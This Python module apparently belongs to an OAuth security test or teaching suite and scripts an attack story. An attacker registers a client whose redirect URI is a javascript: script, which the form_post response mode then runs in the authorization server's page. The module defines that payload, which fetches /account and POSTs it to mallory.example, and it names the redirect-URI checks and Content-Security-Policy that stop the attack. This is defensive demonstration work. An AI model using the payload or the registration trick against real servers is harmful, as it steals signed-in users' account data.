"""A redirect URI that is a script is run in a page of the authorization server."""

from scenarios import honest
from scenarios.attacks.stage import Stage
from scenarios.attacks.story import Defence, Story
from scenarios.browser.pages import Leg
from scenarios.honest import NOTES_PATH
from scenarios.programs.program import Program, registration
from tracing.catalogue import AUTHORIZATION_SERVER

SCRIPT = (
    "javascript:fetch('/account').then(page=>page.text())"
    ".then(text=>fetch('https://mallory.example/',{method:'POST',mode:'no-cors',body:text}))"
)


def _play(stage: Stage) -> str | None:
    stage.tell("Alice is signed in: she has opened her notes in Notebook.")
    stage.victim.goes(honest.to_notes(stage.scene.client_app, NOTES_PATH))

    forecast = _registered(stage)
    if forecast is None:
        return None

    stage.tell(
        "In a Location header a browser runs no script. But with response_mode=form_post the "
        "server sends a form that submits itself, and a form with such an address runs the "
        "script, in the page that it is on: a page of the server. The link asks for prompt=none "
        "as well: then Alice is asked nothing, and an error is sent to the redirect URI, too. "
        "She opens the link."
    )
    answer = stage.victim.send(forecast.authorization(response_mode="form_post", prompt="none"))
    if not any(form.action == SCRIPT for form in answer.forms):
        return None

    stage.tell(
        "Alice's browser is so old that it does not know the Content-Security-Policy, with which "
        "the server forbids all scripts but its own. So the script runs. The browser sends her "
        "cookies along to /account, because the request comes from the server's own page."
    )
    account = stage.victim.send(Leg("GET", f"{stage.scene.authorization_server}/account"))
    said = account.text.partition("Your account ")[2].partition(" . ")[0]
    return said and f"What Alice's account page says, read by a script in her browser: {said}"


def _registered(stage: Stage) -> Program | None:
    stage.tell(
        "The attacker registers a client. Its redirect URI is a script, which reads the page "
        "/account and sends it to the attacker."
    )
    issuer = stage.scene.authorization_server
    page = stage.attacker.sends(
        registration(issuer, client_name="A weather forecast", redirect_uris=[SCRIPT])
    )
    if page.status != 201:
        return None
    return Program(issuer, {**page.document(), "redirect_uris": [SCRIPT]})


STORY = Story(
    slug="javascript-redirect",
    title="A redirect URI that is a script",
    attacker="anyone who can register a client",
    victim="Alice, who is signed in at the authorization server",
    clause="RFC 9700 §4.1.3, OAuth 2.0 Form Post Response Mode §4",
    idea="The attacker is not after a code. A script that runs in a page of the authorization "
    "server can do all that its user can do there: read her account, and press Allow.",
    has="A registered client, and a link that Alice opens.",
    lesson="The server registers no address that is a script, in any spelling, and refuses the "
    "whole registration. An address that is not registered is used in no page, so the request is "
    "refused as well. In today's browsers the Content-Security-Policy of the page stops the script "
    "a third time.",
    stopped_by=(
        Defence(AUTHORIZATION_SERVER, "redirect_uris_are_acceptable"),
        Defence(AUTHORIZATION_SERVER, "redirect_uri_is_registered"),
    ),
    play=_play,
)
